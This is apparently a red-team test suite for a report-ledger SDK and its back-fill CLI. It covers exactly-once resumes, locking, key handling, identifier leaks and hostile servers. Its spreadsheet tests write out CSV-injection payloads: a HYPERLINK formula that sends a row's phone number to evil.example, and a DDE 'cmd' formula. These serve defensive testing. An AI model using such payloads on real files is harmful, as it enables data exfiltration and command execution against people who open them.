/**
 * Red team (issue 12): the platform-facing tooling, attacked from outside: a careless operator
 * running a back-fill, an integrator, and a hostile server or proxy. Every test here was a finding
 * that failed on the code of its day; the assertion states the property that holds since.
 *
 * No ledger is started: the SDK is given a fake `fetch` that answers as the ledger's bulk route
 * answers (201 new, 200 a case id seen before with the same content), or as a proxy would.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { exportJWK, generateKeyPair, type JWK } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { backfill, rejectsFileFor } from "../../client/cli/backfill";
import { DEMO_CONSORTIUM_KEY, readJwkFile } from "../../client/cli/config";
import { BACKFILL_COLUMNS } from "../../client/cli/rows";
import { consortiumKey, hashSubject, residentIdCheckChar } from "../../client/identifiers";
import { PixiuClient } from "../../client/sdk";

const ROOT = join(__dirname, "..", "..");
const LEDGER = "http://ledger.test";
const PLATFORM = "shop-rt";
const DAY = 86_400_000;

let dir: string;
let jwk: JWK;
let demoKey: CryptoKey;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "pixiu-rt12-"));
  const pair = await generateKeyPair("EdDSA", { extractable: true });
  jwk = { ...(await exportJWK(pair.privateKey)), kid: "rt12", alg: "EdDSA" };
  demoKey = await consortiumKey(DEMO_CONSORTIUM_KEY);
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

type Row = Partial<Record<(typeof BACKFILL_COLUMNS)[number], string>>;

const iso = (ms: number) => new Date(ms).toISOString();

function row(n: number, over: Row = {}): Row {
  const now = Date.now();
  return {
    case_id: `RT-${String(n).padStart(6, "0")}`,
    phone: `1380${String(1_000_000 + n).slice(-7)}`,
    category: "ai_generated_image",
    incident_at: iso(now - 10 * DAY),
    confirmed_at: iso(now - 5 * DAY),
    confirmation: "platform_forensics",
    amount: "12900",
    currency: "CNY",
    note: "",
    ...over,
  };
}

function csvCell(v: string | undefined): string {
  const s = v ?? "";
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function writeCsv(name: string, rows: Row[]): string {
  const path = join(dir, name);
  const lines = [
    BACKFILL_COLUMNS.join(","),
    ...rows.map((r) => BACKFILL_COLUMNS.map((c) => csvCell(r[c])).join(",")),
  ];
  writeFileSync(path, `${lines.join("\n")}\n`);
  return path;
}

interface Call {
  bytes: number;
  caseIds: string[];
  bookmark: string | null;
}

/**
 * A ledger's bulk route in memory: 201 for a case id not seen, 200 for one seen. `answer` may
 * replace the answer of a call (a proxy, a hostile server); `delayMs` keeps calls in flight.
 */
function fakeLedger(
  options: {
    answer?: (call: number, body: { reports: { caseId: string }[] }) => Response | null;
    delayMs?: number;
  } = {},
) {
  const seen = new Set<string>();
  const calls: Call[] = [];
  const fetch = async (request: Request): Promise<Response> => {
    const buffer = new Uint8Array(await request.arrayBuffer());
    const body = JSON.parse(new TextDecoder().decode(buffer)) as { reports: { caseId: string }[] };
    calls.push({
      bytes: buffer.byteLength,
      caseIds: body.reports.map((r) => r.caseId),
      bookmark: request.headers.get("pixiu-bookmark"),
    });
    if (options.delayMs) {
      await new Promise((r) => setTimeout(r, options.delayMs));
    }
    const special = options.answer?.(calls.length, body);
    if (special) {
      return special;
    }
    const results = body.reports.map((r, index) => {
      const created = !seen.has(r.caseId);
      seen.add(r.caseId);
      return { index, status: created ? 201 : 200, id: `rpt_${r.caseId}` };
    });
    return Response.json({ results });
  };
  return { fetch, calls, seen };
}

function client(fetch: (r: Request) => Promise<Response>) {
  return new PixiuClient({
    baseUrl: LEDGER,
    platformId: PLATFORM,
    privateJwk: jwk,
    fetch,
    retry: { sleep: async () => {} },
  });
}

const quiet = { write: () => true, isTTY: false } as unknown as NodeJS.WriteStream;

function run(file: string, c: PixiuClient | null, extra: Partial<Parameters<typeof backfill>[0]> = {}) {
  return backfill({
    file,
    client: c,
    key: demoKey,
    ledger: LEDGER,
    platform: PLATFORM,
    progressStream: quiet,
    ...extra,
  });
}

describe("back-fill exactly-once", () => {
  it("a 200 answer without a result per item (a proxy's `{}`, a truncated list) does not mark the rows done", async () => {
    // Attack: a proxy / misbehaving ledger answers the bulk call 200 with `{"results": []}` (or a
    // body that openapi-fetch reads as no data: 204, Content-Length: 0). backfill.ts iterates
    // `data?.results ?? []` and then records the whole range as answered.
    const file = writeCsv("empty-answer.csv", [row(1), row(2), row(3)]);
    const ledger = fakeLedger({ answer: (n) => (n === 1 ? Response.json({ results: [] }) : null) });
    const first = await run(file, client(ledger.fetch));
    const second = await run(file, client(ledger.fetch));
    // Every row must end created, present or rejected, or the run must not call itself complete.
    expect(
      { complete: first.complete, accounted: first.created + first.present + first.rejected },
      "run 1 claims complete though no row was answered",
    ).not.toEqual({ complete: true, accounted: 0 });
    expect(
      ledger.seen.size,
      "the rows never reached the ledger, and the same command again sends nothing",
    ).toBe(3);
    expect(second.calls).toBeGreaterThan(0);
  });

  // Guards the state's input identity: a hash of the whole file, not of its first 64 KiB.
  it("an edit past the first 64 KiB (same size) is noticed, not silently resumed over", async () => {
    // Attack: the operator fixes a rejected row in place (as the README invites: "ready to fix and
    // feed back") and runs the same command. The state's identity is size + sha256(first 64 KiB),
    // so an edit further down with the same length is invisible: the fixed row is skipped forever.
    const rows = Array.from({ length: 900 }, (_, i) =>
      row(i + 1, { note: "courier video shows the parcel intact" }),
    );
    const BAD = 850;
    rows[BAD - 1] = row(BAD, { phone: "12345678901", note: "courier video shows the parcel intact" });
    const file = writeCsv("edit-tail.csv", rows);
    expect(statSync(file).size).toBeGreaterThan(65_536 + 10_000);
    const ledger = fakeLedger();
    const first = await run(file, client(ledger.fetch));
    expect(first.rejected).toBe(1);
    // The fix: a valid number of the same length.
    const fixed = readFileSync(file, "utf8").replace("12345678901", "13800138123");
    expect(fixed.length).toBe(readFileSync(file, "utf8").length);
    writeFileSync(file, fixed);
    let second: Awaited<ReturnType<typeof run>> | null = null;
    let refused: Error | null = null;
    try {
      second = await run(file, client(ledger.fetch));
    } catch (err) {
      refused = err as Error;
    }
    // Either the tool refuses ("file changed … --fresh") as it does for an edit in the first
    // 64 KiB, or it sends the fixed row. It does neither: complete, 0 calls.
    expect(
      refused !== null || ledger.seen.has(`RT-${String(BAD).padStart(6, "0")}`),
      `resumed over an edited file: ${JSON.stringify(second)}`,
    ).toBe(true);
  });

  // Guards the state's consortium key fingerprint: a resume under another key is refused.
  it("a state file written under another consortium key is not resumed", async () => {
    // Attack: run 1 hashed with the wrong consortium key (inside a checkout the CLI silently falls
    // back to the public demo key). The operator sets the right key and runs the same command: the
    // state (tied to file, ledger and platform only) says every row is done, nothing is re-sent,
    // and the ledger keeps hashes under the wrong key.
    const file = writeCsv("other-key.csv", [row(1), row(2)]);
    const ledger = fakeLedger();
    await run(file, client(ledger.fetch));
    const rightKey = await consortiumKey(
      Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString("base64url"),
    );
    let refused: Error | null = null;
    let second: Awaited<ReturnType<typeof run>> | null = null;
    try {
      second = await run(file, client(ledger.fetch), { key: rightKey });
    } catch (err) {
      refused = err as Error;
    }
    expect(
      refused !== null || (second?.calls ?? 0) > 0,
      `resumed a state hashed under another key as complete: ${JSON.stringify(second)}`,
    ).toBe(true);
  });

  // Guards the lock file: a second back-fill of a file being back-filled refuses to start.
  it("two back-fills of the same file at once: one refuses (a lock), or the rejects file still holds each row once", async () => {
    // Attack: the operator starts the command twice (two terminals, a cron overlap). There is no
    // lock: both truncate/append the same rejects file and overwrite each other's state.
    const rows = [row(1), row(2, { amount: "abc" }), row(3), row(4, { category: "nope" })];
    const file = writeCsv("twice.csv", rows);
    const ledger = fakeLedger({ delayMs: 50 });
    const results = await Promise.allSettled([
      run(file, client(ledger.fetch), { batchSize: 1 }),
      run(file, client(ledger.fetch), { batchSize: 1 }),
    ]);
    const refusedOne = results.some((r) => r.status === "rejected");
    const lines = parse(readFileSync(rejectsFileFor(file), "utf8"), { columns: true }) as { row: string }[];
    const rowsInRejects = lines.map((l) => l.row).sort();
    expect(
      refusedOne || rowsInRejects.join(",") === "2,4",
      `rejects file rows: ${rowsInRejects.join(",")}`,
    ).toBe(true);
  });

  // Guards the resume of an edited rejects file: kept as it is, never padded (nor cut).
  it("a rejects file shorter than the state recorded (the operator removed fixed rows) is not padded with NUL bytes", async () => {
    const file = writeCsv("nul.csv", [row(1), row(2, { amount: "abc" })]);
    const ledger = fakeLedger();
    await run(file, client(ledger.fetch));
    const rejects = rejectsFileFor(file);
    const header = readFileSync(rejects, "utf8").split("\n")[0] as string;
    truncateSync(rejects, header.length + 1); // the operator fixed row 2 and deleted its line
    await run(file, client(ledger.fetch));
    expect(readFileSync(rejects, "utf8")).not.toContain("\0");
  });
});

describe("the rejects file is safe to open in a spreadsheet", () => {
  /** OWASP CSV injection: a cell a spreadsheet evaluates as a formula. */
  const formula = (cell: string) => /^[=+@\t\r]/.test(cell) || /^-[^0-9]/.test(cell);

  it("a row value starting with = is not written as a live formula", async () => {
    // The note of a row rejected for its amount: `=HYPERLINK(...)` concatenating the raw phone of
    // the same line (column E) into a URL; csvField quotes it (it has a comma) but a quoted cell
    // starting with `=` is still a formula.
    const file = writeCsv("inject-row.csv", [
      row(1, { amount: "12.90", note: '=HYPERLINK("https://evil.example/?p="&E2,"open")' }),
      row(2, { amount: "x", note: "@SUM(1+1)*cmd|' /C calc'!A0" }),
    ]);
    await run(file, client(fakeLedger().fetch));
    const cells = (parse(readFileSync(rejectsFileFor(file), "utf8")) as string[][]).flat();
    expect(cells.filter(formula)).toEqual([]);
  });

  it("a hostile ledger's problem detail is not written as a live formula", async () => {
    // The ledger (or anything in the path) answers a 409 whose detail is a formula; it lands in
    // the `problem` column, the first characters of the cell, next to the row's raw identifiers.
    const file = writeCsv("inject-server.csv", [row(1)]);
    const evil = fakeLedger({
      answer: () =>
        Response.json({
          results: [
            {
              index: 0,
              status: 409,
              problem: {
                type: "https://pixiu.dev/problems/conflict",
                title: "Conflict",
                status: 409,
                detail: '=HYPERLINK("https://evil.example/?"&D2&E2,"details")',
                instance: "",
              },
            },
          ],
        }),
    });
    await run(file, client(evil.fetch));
    const cells = (parse(readFileSync(rejectsFileFor(file), "utf8")) as string[][]).flat();
    expect(cells.filter(formula)).toEqual([]);
  });
});

describe("raw identifiers never reach the terminal or logs", () => {
  it("the dry run's problems (printed to stderr by `pixiu backfill --dry-run`) do not carry the raw identifier", async () => {
    // IdentifierError messages embed the raw input (JSON.stringify(input)); main.ts prints the
    // first 20 problems to stderr, i.e. the CI log of a dry run.
    const file = writeCsv("leak.csv", [
      row(1, { phone: "", email: "zhang.wei.secret@corp" }),
      row(2, { phone: "+86 138 0013 800" }),
    ]);
    const summary = await run(file, null);
    const printed = JSON.stringify(summary.problems);
    expect(printed).not.toContain("zhang.wei.secret");
    expect(printed).not.toContain("138 0013 800");
  });

  it("a CSV exported without its header row does not print the first row's identifiers in the error", async () => {
    // The header check throws `unknown: <every cell of the first line>`; main.ts prints it.
    const path = join(dir, "no-header.csv");
    writeFileSync(
      path,
      "JD-1,13800138000,li.na.private@mail.example.org,,,,ai_generated_image,2026-01-01T00:00:00Z,2026-01-02T00:00:00Z,platform_forensics,100,CNY,\n",
    );
    const message = await run(path, null).then(
      () => "",
      (err: Error) => err.message,
    );
    expect(message).not.toBe("");
    expect(message).not.toContain("13800138000");
    expect(message).not.toContain("li.na.private");
  });

  it("the SDK's hashSubject error does not carry the raw identifier (integrators log errors)", async () => {
    const message = await hashSubject(demoKey, "email", "wang.fang.private@intranet").then(
      () => "",
      (err: Error) => err.message,
    );
    expect(message).not.toBe("");
    expect(message).not.toContain("wang.fang.private");
  });
});

describe("back-fill batches fit the bulk route", () => {
  it("a batch stays within the route's 1 MiB (bytes, not UTF-16 units)", async () => {
    // MAX_BATCH_BYTES counts JSON.stringify(body).length: characters. Notes in Chinese are 3 bytes
    // a character in UTF-8, so 500 valid rows go out as one call over 1,048,576 bytes: the ledger
    // answers 413 to the whole call, the back-fill stops (exit 2), and "run again to resume" sends
    // the same oversized batch again, forever.
    const note = "买家声称收到的商品破损但快递视频显示包裹完好无损".repeat(25).slice(0, 500);
    const rows = Array.from({ length: 500 }, (_, i) => {
      const n = i + 1;
      const id17 = `1101051990${String(1_000_000 + n).slice(-7)}`;
      return row(n, {
        case_id: `RT-BYTES-${String(n).padStart(6, "0")}-${"x".repeat(40)}`,
        email: `buyer${n}@mail.example.org`,
        national_id: `${id17}${residentIdCheckChar(id17)}`,
        device: `device-${n}-${"d".repeat(20)}`,
        payment_account: `alipay:20867699${String(10_000 + n)}`,
        note,
      });
    });
    const file = writeCsv("bytes.csv", rows);
    const ledger = fakeLedger();
    const summary = await run(file, client(ledger.fetch));
    expect(summary.rejected).toBe(0);
    expect(Math.max(...ledger.calls.map((c) => c.bytes))).toBeLessThanOrEqual(1_048_576);
  });
});

describe("SDK against a hostile server or proxy", () => {
  it("one answer with a bogus Pixiu-Bookmark does not poison every later request", async () => {
    // #keepBookmark keeps the greatest string ever seen, unchecked. A single answer carrying
    // `~` (greater than any hex bookmark) sticks: every later request sends it, and the ledger
    // answers 422 to a malformed bookmark, so the client (and a long back-fill) is bricked.
    const ok = "00000001-00000002-00000003-0123456789abcdef0123456789abcdef";
    let n = 0;
    const calls: (string | null)[] = [];
    const fetch = async (request: Request) => {
      calls.push(request.headers.get("pixiu-bookmark"));
      n++;
      return Response.json({ results: [] }, { headers: { "pixiu-bookmark": n === 1 ? "~poisoned" : ok } });
    };
    const c = client(fetch);
    const body = { reports: [{ caseId: "x" }] } as never;
    await c.api.POST("/v1/reports/bulk", { body });
    await c.api.POST("/v1/reports/bulk", { body });
    await c.api.POST("/v1/reports/bulk", { body });
    expect(calls[2]).not.toBe("~poisoned");
  });
});

describe("the CLI's keys", () => {
  // Guards the key file's mode: a private key others may read is refused, as ssh refuses one.
  it("a private key file readable by group and others is refused (or at least warned about)", () => {
    const path = join(dir, "loose.private.jwk.json");
    writeFileSync(path, JSON.stringify(jwk));
    chmodSync(path, 0o644);
    expect(() => readJwkFile(path)).toThrow(/permission|mode|readable/i);
  });

  it("against a non-local ledger, the CLI does not hash with the public demo consortium key", async () => {
    // Following docs/integration.md from the repository against production ("the steps are the
    // same with its URL … never the demo key") but forgetting PIXIU_CONSORTIUM_KEY: inside a
    // checkout the CLI silently uses the PUBLIC demo key, so real phone numbers go to a
    // production ledger as HMACs under a published key (reversible by enumerating numbers), and
    // their case ids are then taken (a correct re-send is a 409).
    const capture = join(dir, "capture.ndjson");
    const preload = join(dir, "fake-fetch.mjs");
    writeFileSync(
      preload,
      `import { appendFileSync } from "node:fs";
globalThis.fetch = async (request) => {
  appendFileSync(${JSON.stringify(capture)}, JSON.stringify({ url: request.url, body: await request.text() }) + "\\n");
  return new Response("{}", { status: 201, headers: { "content-type": "application/json" } });
};
`,
    );
    const keyFile = join(dir, "shop.private.jwk.json");
    writeFileSync(keyFile, JSON.stringify(jwk), { mode: 0o600 });
    const env = { ...process.env };
    delete env.PIXIU_CONSORTIUM_KEY;
    delete env.PIXIU_URL;
    const now = Date.now();
    const cli = spawnSync(
      process.execPath,
      [
        "--import",
        "tsx",
        "--import",
        preload,
        join(ROOT, "client", "cli", "main.ts"),
        "report",
        "--url",
        "https://ledger.example.com",
        "--platform",
        PLATFORM,
        "--key",
        keyFile,
        "--case-id",
        "PROD-1",
        "--phone",
        "13800138000",
        "--category",
        "ai_generated_image",
        "--incident-at",
        iso(now - 10 * DAY),
        "--confirmed-at",
        iso(now - 5 * DAY),
        "--confirmation",
        "platform_forensics",
        "--amount",
        "100",
        "--currency",
        "CNY",
      ],
      { cwd: ROOT, env, encoding: "utf8", timeout: 60_000 },
    );
    let sent = "";
    try {
      sent = readFileSync(capture, "utf8");
    } catch {
      // nothing sent
    }
    const demoHash = (await hashSubject(demoKey, "phone", "13800138000")).hash;
    expect(
      sent,
      `the CLI sent to the production URL (exit ${cli.status}), hashed with the public demo key: ${sent.includes(demoHash)}`,
    ).toBe("");
    expect(cli.status).not.toBe(0);
  });
});
